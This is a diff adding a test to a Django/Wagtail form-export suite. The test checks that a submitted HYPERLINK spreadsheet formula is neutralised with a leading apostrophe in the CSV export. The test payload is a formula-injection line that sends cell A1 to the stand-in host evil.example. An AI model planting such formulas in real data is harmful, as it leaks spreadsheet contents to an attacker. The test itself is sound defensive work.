@@ -126,3 +126,16 @@ def test_editors_export_submissions_as_csv(admin_client, client, coaching):
     shops = {row[1] for row in rows[1:]}
     assert shops == {"Fietsatelier", "Atelier du Vélo"}
     assert len(rows[0]) == 10
+
+
+def test_the_export_keeps_a_visitors_formula_inert(admin_client, client, coaching):
+    attack = '=HYPERLINK("https://evil.example/?"&A1;"Open")'
+    client.post(coaching["fr"].url, valid_data(shop_name=attack))
+
+    response = admin_client.get(
+        reverse("wagtailforms:list_submissions", args=[coaching["fr"].pk]) + "?export=csv"
+    )
+
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    (_headings, row) = list(csv.reader(io.StringIO(text)))
+    assert row[1] == "'" + attack  # shown as text by Excel and LibreOffice, never run
